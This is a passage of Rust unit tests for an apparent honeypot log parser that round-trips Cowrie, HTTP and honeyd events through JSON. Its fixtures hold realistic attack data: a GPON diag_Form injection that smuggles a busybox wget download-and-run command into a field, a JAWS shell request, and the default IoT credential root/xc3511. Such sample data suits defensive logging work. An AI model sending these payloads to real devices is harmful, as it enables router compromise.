        s.shasum = Some("ab".repeat(32).into());
        s.size = Some(1 << 40);
        s.arch = Some("arm".into());
        s.callback = Some("198.51.100.1:4444".into());
        s.width = Some(80);
        s.height = Some(24);
        s.name = Some("TERM".into());
        s.value = Some("xterm-256color 日本".into());
        s.ttylog = Some("tty/a1b2c3d4e5f6.cast".into());
        s.duration_us = Some([12_345_678, 7_500_000, 3_000_000][n as usize % 3]);
        s.message = Some("login attempt [root/xc3511] succeeded".into());
        s.profile = Some("hikvision-dvr".into());
        s
    }

    #[test]
    fn session_events_round_trip_with_every_field() {
        for (n, &id) in SessionEventId::ALL.iter().enumerate() {
            let full = full_session(id, n as u64);
            let bare = SessionEvent::new(
                full.time,
                id,
                "000000000000",
                "telnet",
                "0.0.0.0:0".parse().unwrap(),
                "255.255.255.255:65535".parse().unwrap(),
            );
            for ev in [
                Event::Session(Box::new(full)),
                Event::Session(Box::new(bare)),
            ] {
                let mut ours = String::new();
                write_event(&ev, &mut ours);
                assert_eq!(ours, via_serde(&ev));
                assert_eq!(
                    parse_line(ours.trim_end().as_bytes()).unwrap(),
                    ev,
                    "{ours}"
                );
            }
        }
    }

    #[test]
    fn session_json_has_cowries_names() {
        let mut s = SessionEvent::new(
            Timestamp::from_micros(1_459_468_801_500_000).unwrap(),
            SessionEventId::LoginSuccess,
            "a1b2c3d4e5f6",
            "telnet",
            "203.0.113.9:40000".parse().unwrap(),
            "198.51.100.7:23".parse().unwrap(),
        );
        s.username = Some("root".into());
        s.password = Some("xc3511".into());
        s.message = Some("login attempt [root/xc3511] succeeded".into());
        let mut json = String::new();
        write_event(&Event::Session(Box::new(s)), &mut json);
        assert_eq!(
            json,
            r#"{"ts":"2016-04-01T00:00:01.500000Z","event":"session","eventid":"cowrie.login.success","session":"a1b2c3d4e5f6","protocol":"telnet","src_ip":"203.0.113.9","src_port":40000,"dst_ip":"198.51.100.7","dst_port":23,"timestamp":"2016-04-01T00:00:01.500000Z","username":"root","password":"xc3511","message":"login attempt [root/xc3511] succeeded"}
"#
        );
    }

    /// An HTTP request with every field set to text that needs JSON escaping.
    fn full_http(n: u64) -> HttpEvent {
        let t = Timestamp::from_micros(1_700_000_000_654_321 + n as i64).unwrap();
        let mut h = HttpEvent::new(
            t,
            "0f1e2d3c4b5a",
            "[2001:db8::9]:51000".parse().unwrap(),
            "198.51.100.7:8080".parse().unwrap(),
        );
        h.sensor = Some("tokyo-1".into());
        h.method = Some("POST".into());
        h.target = Some("/GponForm/diag_Form?images/".into());
        h.path = Some("/GponForm/diag_Form".into());
        h.query = Some("images/".into());
        h.version = Some("HTTP/1.1".into());
        h.host = Some("198.51.100.7:8080".into());
        h.user_agent = Some("Hello, World \"日本\"".into());
        h.headers = vec![
            ("Host".into(), "198.51.100.7:8080".into()),
            ("User-Agent".into(), "Hello, World \"日本\"".into()),
            ("Cookie".into(), "a=1".into()),
            ("Cookie".into(), "b=2\\x0d\t".into()),
            ("".into(), "".into()),
        ];
        h.body_size = 1 << 33;
        h.body_sha256 = Some("cd".repeat(32).into());
        h.body_head = Some("XWebPageName=diag&diag_action=ping&dest_host=`busybox+wget+http://198.51.100.1/x+-O+->/tmp/gpon80;sh+/tmp/gpon80&ipv=0".into());
        h.status = 200;
        h.exploit = Some("gpon-diag-form".into());
        h.commands = vec![
            "busybox wget http://198.51.100.1/x -O- >/tmp/gpon80".into(),
            "sh /tmp/gpon80\u{1}".into(),
        ];
        h.error = Some("body too large".into());
        h.profile = Some("gpon-ont".into());
        h
    }

    #[test]
    fn http_events_round_trip_with_every_field() {
        let full = full_http(0);
        let bare = HttpEvent::new(
            full.time,
            "000000000000",
            "0.0.0.0:0".parse().unwrap(),
            "255.255.255.255:65535".parse().unwrap(),
        );
        let mut one = bare.clone();
        one.headers = vec![("X".into(), "y".into())];
        one.commands = vec!["".into()];
        one.status = u16::MAX;
        one.body_size = u64::MAX;
        for h in [full, bare, one] {
            let ev = Event::from(h);
            let mut ours = String::new();
            write_event(&ev, &mut ours);
            assert_eq!(ours, via_serde(&ev));
            assert_eq!(
                parse_line(ours.trim_end().as_bytes()).unwrap(),
                ev,
                "{ours}"
            );
        }
    }

    #[test]
    fn http_json_has_the_documented_names() {
        let mut h = HttpEvent::new(
            Timestamp::from_micros(1_459_468_801_500_000).unwrap(),
            "a1b2c3d4e5f6",
            "203.0.113.9:40000".parse().unwrap(),
            "198.51.100.7:80".parse().unwrap(),
        );
        h.method = Some("GET".into());
        h.target = Some("/shell?cd+/tmp".into());
        h.path = Some("/shell".into());
        h.query = Some("cd+/tmp".into());
        h.version = Some("HTTP/1.1".into());
        h.host = Some("198.51.100.7:80".into());
        h.headers = vec![
            ("Host".into(), "198.51.100.7:80".into()),
            ("Accept".into(), "*/*".into()),
        ];
        h.status = 404;
        h.exploit = Some("jaws-shell".into());
        h.commands = vec!["cd /tmp".into()];
        let mut json = String::new();
        write_event(&Event::from(h), &mut json);
        assert_eq!(
            json,
            r#"{"ts":"2016-04-01T00:00:01.500000Z","event":"http","eventid":"honeyscope.http.request","session":"a1b2c3d4e5f6","protocol":"http","src_ip":"203.0.113.9","src_port":40000,"dst_ip":"198.51.100.7","dst_port":80,"timestamp":"2016-04-01T00:00:01.500000Z","host":"198.51.100.7:80","method":"GET","target":"/shell?cd+/tmp","path":"/shell","query":"cd+/tmp","version":"HTTP/1.1","headers":[["Host","198.51.100.7:80"],["Accept","*/*"]],"body_size":0,"status":404,"exploit":"jaws-shell","commands":["cd /tmp"]}
"#
        );
    }

    #[test]
    fn http_and_session_events_keep_their_own_host_and_method() {
        // The same `host` and `method` keys mean the Host header and HTTP method for one,
        // the download's host and tool for the other: `event` decides.
        let session = Event::from(full_session(SessionEventId::FileDownload, 1));
        let http = Event::from(full_http(1));
        for ev in [session, http] {
            let mut json = String::new();
            write_event(&ev, &mut json);
            assert_eq!(parse_line(json.trim_end().as_bytes()).unwrap(), ev);
        }
        // Without `event`, the eventid tells (as for Cowrie's lines).
        let ev = parse_line(
            br#"{"eventid":"honeyscope.http.request","session":"a","src_ip":"::1","src_port":1,"dst_ip":"::2","dst_port":80,"timestamp":"2024-01-15T08:31:00Z","method":"GET","host":"x","body_size":0,"status":0}"#,
        )
        .unwrap();
        let Event::Http(h) = &ev else {
            panic!("{ev:?}")
        };
        assert_eq!(
            (h.method.as_deref(), h.host.as_deref()),
            (Some("GET"), Some("x"))
        );
        // Null and empty arrays read as none.
        let ev = parse_line(
            br#"{"ts":"2024-01-15T08:31:00Z","event":"http","session":"a","src_ip":"::1","src_port":1,"dst_ip":"::2","dst_port":80,"headers":[],"commands":null,"body_size":0,"status":0}"#,
        )
        .unwrap();
        let Event::Http(h) = &ev else {
            panic!("{ev:?}")
        };
        assert!(h.headers.is_empty() && h.commands.is_empty());
        // Required fields, and headers that are not pairs.
        for (line, field) in [
            (
                r#""session":"a","src_ip":"::1","src_port":1,"dst_ip":"::2","dst_port":80,"status":0"#,
                "body_size",
            ),
            (
                r#""session":"a","src_ip":"::1","src_port":1,"dst_ip":"::2","dst_port":80,"body_size":0"#,
                "status",
            ),
            (
                r#""src_ip":"::1","src_port":1,"dst_ip":"::2","dst_port":80,"body_size":0,"status":0"#,
                "session",
            ),
            (
                r#""session":"a","src_ip":"::1","src_port":1,"dst_port":80,"body_size":0,"status":0"#,
                "dst_ip",
            ),
        ] {
            let line = format!(r#"{{"ts":"2024-01-15T08:31:00Z","event":"http",{line}}}"#);
            match parse_line(line.as_bytes()) {
                Err(JsonError::Field(f)) => assert_eq!(f, field, "{line}"),
                other => panic!("{line}: {other:?}"),
            }
        }
        assert!(matches!(
            parse_line(
                br#"{"ts":"2024-01-15T08:31:00Z","event":"http","session":"a","src_ip":"::1","src_port":1,"dst_ip":"::2","dst_port":80,"body_size":0,"status":0,"headers":[["a"]]}"#
            ),
            Err(JsonError::Syntax(_))
        ));
    }

    #[test]
    fn durations_are_exact_decimal_seconds() {
        for (us, text) in [
            (0, "0.0"),
            (1, "0.000001"),
            (7_500_000, "7.5"),
            (12_345_678, "12.345678"),
            (MAX_DURATION_US, "1125899906.842624"),
        ] {
            let mut out = String::new();
            push_seconds(&mut out, us);
            assert_eq!(out, text);
            assert_eq!(duration_us(Seconds(text.parse().unwrap())), Some(us));
        }
        let mut s = full_session(SessionEventId::Closed, 0);
        s.duration_us = Some(1);
        let ev = Event::Session(Box::new(s));
        let mut json = String::new();
        write_event(&ev, &mut json);
        assert_eq!(parse_line(json.trim_end().as_bytes()).unwrap(), ev);
        for bad in ["-1", "1e300", "\"x\""] {
            let line = format!(
                r#"{{"eventid":"cowrie.session.closed","session":"a","src_ip":"::1","timestamp":"2016-04-01T00:00:01Z","duration":{bad}}}"#
            );
            assert!(parse_line(line.as_bytes()).is_err(), "{line}");
        }
    }

    #[test]
    fn cowries_own_lines_read_as_session_events() {
        // As Cowrie writes them: no `ts` or `event`, fields honeyscope does not keep
        // (`uuid`, `duplicate`, `isError`, …), and ports and `dst_ip` only on connect.
        let connect = parse_line(
            br#"{"eventid":"cowrie.session.connect","src_ip":"203.0.113.9","src_port":51234,"dst_ip":"198.51.100.7","dst_port":23,"session":"9f8e7d6c5b4a","protocol":"telnet","message":"New connection: 203.0.113.9:51234 (198.51.100.7:23) [session: 9f8e7d6c5b4a]","sensor":"cowrie-1","uuid":"5f3a-11ee","timestamp":"2024-01-15T08:30:12.345678Z"}"#,
        )
        .unwrap();
        let Event::Session(c) = &connect else {
            panic!("{connect:?}")
        };
        assert_eq!(c.eventid, SessionEventId::Connect);
        assert_eq!((&*c.session, &*c.protocol), ("9f8e7d6c5b4a", "telnet"));
        assert_eq!((c.sport, c.dport), (51234, 23));
        assert_eq!(c.sensor.as_deref(), Some("cowrie-1"));
        assert_eq!(
            c.time,
            Timestamp::parse_rfc3339("2024-01-15T08:30:12.345678Z").unwrap()
        );

        let login = parse_line(
            br#"{"eventid":"cowrie.login.failed","username":"admin","password":"1234","message":"login attempt [admin/1234] failed","sensor":"cowrie-1","timestamp":"2024-01-15T08:30:13.000001Z","src_ip":"203.0.113.9","session":"9f8e7d6c5b4a","isError":0,"system":"CowrieTelnetTransport,0,203.0.113.9"}"#,
        )
        .unwrap();
        let Event::Session(l) = &login else {
            panic!("{login:?}")
        };
        assert_eq!(l.eventid, SessionEventId::LoginFailed);
        assert_eq!(l.username.as_deref(), Some("admin"));
        assert_eq!(l.password.as_deref(), Some("1234"));
        assert_eq!(
            (l.dst, l.sport, l.dport, &*l.protocol),
            ("0.0.0.0".parse().unwrap(), 0, 0, "")
        );

        let closed = parse_line(
            br#"{"eventid":"cowrie.log.closed","ttylog":"var/lib/cowrie/tty/0f1e","size":1234,"shasum":"0f1e","duplicate":false,"duration":"12.5","message":"Closing TTY Log","sensor":"c","timestamp":"2024-01-15T08:31:00Z","src_ip":"2001:db8::9","session":"9f8e7d6c5b4a"}"#,
        )
        .unwrap();
        let Event::Session(t) = &closed else {
            panic!("{closed:?}")
        };
        assert_eq!(t.duration_us, Some(12_500_000));
        assert_eq!(t.size, Some(1234));
        assert_eq!(t.dst, "::".parse::<IpAddr>().unwrap());

        // Each reads back the same after writing.
        for ev in [connect, login, closed] {
            let mut json = String::new();
            write_event(&ev, &mut json);
            assert_eq!(parse_line(json.trim_end().as_bytes()).unwrap(), ev);
        }

        // An eventid honeyscope does not model, and a session event without its session.
        assert!(matches!(
            parse_line(
                br#"{"eventid":"cowrie.client.version","version":"SSH-2.0-Go","src_ip":"::1","session":"a","timestamp":"2024-01-15T08:31:00Z"}"#
            ),
            Err(JsonError::Field("eventid"))
        ));
        assert!(matches!(
            parse_line(
                br#"{"ts":"2024-01-15T08:31:00Z","event":"session","eventid":"cowrie.session.closed","src_ip":"::1"}"#
            ),
            Err(JsonError::Field("session"))
        ));
    }

    #[test]
    fn honeyd_lines_survive_json() {
        let tz = LocalZone::utc();
        for line in [
            "2016-04-01-00:00:01.0000 tcp(6) - 203.0.113.9 4711 198.51.100.7 23: 40 S [Linux 2.6 ] {Honeyd Scanner?}",
            "2023-04-28-15:58:34.4550 tcp(6) E 192.168.10.4 37230 185.213.114.29 80: 734 13762",
            "2023-04-28-15:53:38.9189 icmp(1) - 192.168.10.4 185.213.114.29: 8(0): 84",
            "2016-04-01-00:00:01.0000 GRE(47) - 203.0.113.9 198.51.100.7: 64",
            "2023-04-28-13:47:14.3718 honeyd log started ------",
        ] {
            let mut ev = honeyd::parse_line(line.as_bytes(), &tz).unwrap();
            ev.set_sensor(Some("s1".into()));
            let mut json = String::new();
            write_event(&ev, &mut json);
            let back = parse_line(json.trim_end().as_bytes()).unwrap();
            assert_eq!(back, ev, "{json}");
        }
    }

    #[test]
    fn schema_is_stable() {
        let tz = LocalZone::utc();
        let ev = honeyd::parse_line(
            b"2016-04-01-00:00:01.0000 tcp(6) - 203.0.113.9 4711 198.51.100.7 23: 40 S [Linux 2.6 ]",
            &tz,
        )
        .unwrap();
        let mut json = String::new();
        write_event(&ev, &mut json);
        assert_eq!(
            json,
            r#"{"ts":"2016-04-01T00:00:01.000000Z","event":"packet","kind":"probe","proto":6,"proto_name":"tcp","src":"203.0.113.9","sport":4711,"dst":"198.51.100.7","dport":23,"ip_len":40,"tcp_flags":"S","os":"Linux 2.6 "}
"#
        );
    }

    #[test]
    fn empty_proto_name_reads_as_the_default() {
        // Found by fuzzing (see `PacketEvent::set_proto_name`).
        let ev = parse_line(
            br#"{"ts":"2016-04-01T01Z","event":"packet","kind":"flow_start","proto":8,"proto_name":"","src":"b::","dst":"::2"}"#,
        )
        .unwrap();
        let tz = LocalZone::utc();
        let mut line = String::new();
        honeyd::write_event(&ev, &tz, &mut line);
        assert_eq!(line, "2016-04-01-01:00:00.0000 egp(8) S b:: ::2\n");
        assert_eq!(
            honeyd::parse_line(line.trim_end().as_bytes(), &tz).unwrap(),
            ev
        );
    }

    #[test]
    fn bad_json_says_why() {
        assert!(matches!(parse_line(b"{"), Err(JsonError::Syntax(_))));
        assert!(matches!(
            parse_line(br#"{"ts":"x","event":"packet"}"#),
            Err(JsonError::Time)
        ));
        assert!(matches!(
            parse_line(br#"{"ts":"2016-04-01T00:00:01Z","event":"nope"}"#),
            Err(JsonError::EventType(_))
        ));
        assert!(matches!(
            parse_line(br#"{"ts":"2016-04-01T00:00:01Z","event":"packet","kind":"probe"}"#),
            Err(JsonError::Field("proto"))
        ));
        assert!(
            parse_line(br#"{"ts":"2016-04-01T00:00:01Z","event":"log_stopped","extra":[1]}"#)
                .is_ok()
        );
    }
}
